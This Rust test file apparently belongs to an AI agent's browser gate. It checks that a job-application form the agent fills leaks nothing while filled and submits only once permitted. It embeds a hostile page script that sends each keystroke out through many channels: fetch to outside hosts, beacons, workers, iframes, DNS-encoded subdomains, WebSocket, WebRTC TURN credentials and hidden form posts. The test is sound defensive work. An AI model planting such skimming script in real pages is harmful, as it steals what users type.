//! While the form is filled nothing leaves, whatever the page tries.

use agent_browser::gate::Stage;

use crate::browser::{Browser, form};
use crate::order::Plan;
use crate::site::{Answer, Asked, Site};

const LEAKS: &str = "<iframe name=frame></iframe><iframe id=inner src=https://frame.test/inner></iframe><script>\
    const worker = new Worker('/worker.js');\
    window.ready = new Promise(done => worker.onmessage = () => done());\
    document.querySelector('[name=email]').oninput = async event => {\
      const value = event.target.value, query = '?v=' + encodeURIComponent(value);\
      const quiet = promise => promise.catch(() => 0);\
      quiet(fetch('/autosave', {method: 'POST', body: value}));\
      quiet(fetch('/get' + query));\
      quiet(fetch('https://captcha.test/token', {method: 'POST', body: value, mode: 'no-cors'}));\
      quiet(fetch('https://other.test/', {method: 'POST', body: value, mode: 'no-cors'}));\
      quiet(fetch('/put', {method: 'PUT', body: value}));\
      navigator.sendBeacon('/beacon', value);\
      worker.postMessage(value);\
      document.querySelector('#inner').contentWindow.postMessage(value, '*');\
      new Image().src = '/pixel' + query;\
      for (const rel of ['prefetch', 'preload', 'stylesheet', 'preconnect', 'dns-prefetch', 'icon']) {\
        const link = document.createElement('link'); link.rel = rel; link.as = 'image';\
        link.href = rel.includes('connect') || rel.includes('dns') ? 'https://' + btoa(value).replace(/=/g, '').toLowerCase() + '.jobs.test' : '/' + rel + query;\
        document.head.append(link); }\
      try { new WebSocket('wss://jobs.test/socket' + query) } catch {}\
      try { new EventSource('/events' + query) } catch {}\
      try { new WebTransport('https://jobs.test/transport' + query).ready.catch(() => 0) } catch {}\
      try { fetchLater('/later', {method: 'POST', body: value, activateAfter: 0}) } catch {}\
      try { const peer = new RTCPeerConnection({iceServers: [{urls: 'turn:jobs.test:443?transport=tcp', username: value, credential: 'x'}]});\
        peer.createDataChannel('x'); peer.createOffer().then(offer => peer.setLocalDescription(offer)) } catch {}\
      const copy = document.forms[0].cloneNode(true); copy.hidden = true; copy.action = '/frame'; copy.target = 'frame';\
      document.body.append(copy); copy.submit(); copy.remove();\
      setTimeout(() => document.title = 'tried', 300);\
    }</script>";

#[tokio::test]
async fn p4_nothing_leaves_while_the_form_is_filled_and_the_form_does_after() {
    let page = form(LEAKS);
    let site = Site::start(move |asked: &Asked| match asked.target.as_str() {
        "/form" => Answer::html(&page),
        "/worker.js" => Answer::script(
            "postMessage(0); onmessage = event => { fetch('/worker', {method: 'POST', body: event.data}).catch(() => 0); new WebSocket('wss://jobs.test/socket'); }",
        ),
        "/inner" => Answer::html(
            "<form method=post action=/inner-form><input name=v></form><script>onmessage = event => {\
             fetch('/inner-fetch', {method: 'POST', body: event.data}).catch(() => 0);\
             document.forms[0].v.value = event.data; document.forms[0].submit(); }</script>",
        ),
        "/socket" => Answer::Upgrade,
        _ => Answer::html("ok"),
    })
    .await;
    let browser = Browser::start(&site).await;
    browser.load("https://jobs.test/form").await;
    let plan = Plan::form();
    browser.gate.shut().await;
    let (requests, connections) = (site.asked().len(), site.connections());
    browser.fill(&plan).await;
    for tried in [
        "/autosave",
        "/get",
        "/put",
        "/beacon",
        "/worker",
        "/inner-fetch",
        "/inner-form",
        "/pixel",
        "/prefetch",
        "/events",
        "captcha.test",
        "other.test",
        "/frame",
    ] {
        browser.until_refused(tried).await;
    }
    let tried = "await new Promise(done => { const look = () => document.title === 'tried' ? done() : setTimeout(look, 5); look(); })";
    browser.run(tried).await;
    assert_eq!(
        (site.asked().len(), site.connections()),
        (requests, connections),
        "{:?}",
        site.asked()
    );
    assert_eq!(browser.gate.forwarded(), 0);
    let noted = browser.ledger.refused.lock().unwrap().join("\n");
    assert!(
        !noted.contains("okafor.example"),
        "the ledger holds no value: {noted}"
    );
    // What the page did while it was filled must not stand in the form's way.
    browser.gate.permit(plan.order()).await.unwrap();
    browser.press().await;
    browser.until(|stage| stage == Stage::Open).await;
    browser.gate.close().await;
    assert_eq!(site.posts("/apply").len(), 1);
    assert_eq!(site.sending(), ["POST /apply"]);
    browser.end().await;
}
